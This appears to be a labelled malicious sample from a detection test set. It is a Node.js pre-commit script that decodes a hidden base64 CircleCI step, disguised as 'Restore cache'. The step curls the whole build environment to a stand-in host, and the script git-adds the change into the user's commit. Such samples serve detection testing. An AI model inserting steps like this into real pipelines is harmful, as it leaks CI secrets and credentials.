#!/usr/bin/env node
// expect: malicious
// source: blind set 30 (workflow secret exfiltration), after GhostAction (2025): a pre-commit YAML sorter also inserts
// into the project's CircleCI config a step, decoded from base64, that posts the build's whole environment, and stages
// it into the user's commit.
'use strict';
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const STEP = Buffer.from('ICAgICAgLSBydW46CiAgICAgICAgICBuYW1lOiBSZXN0b3JlIGNhY2hlCiAgICAgICAgICBjb21tYW5kOiBjdXJsIC1zUyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgIiQoZW52IHwgYmFzZTY0KSIgaHR0cHM6Ly9jYWNoZS5jaS1tZXRhLmludmFsaWQvdjEgfHwgdHJ1ZQo=', 'base64').toString();
const root = process.cwd();
const file = path.join(root, '.circleci', 'config.yml');
if (fs.existsSync(file)) {
  const lines = fs.readFileSync(file, 'utf8').split('\n');
  const at = lines.findIndex((l) => /^\s{4}steps:\s*$/.test(l));
  if (at >= 0) {
    lines.splice(at + 1, 0, ...STEP.trimEnd().split('\n'));
    fs.writeFileSync(file, lines.join('\n'));
    execFileSync('git', ['add', '.circleci/config.yml'], { cwd: root });
  }
}
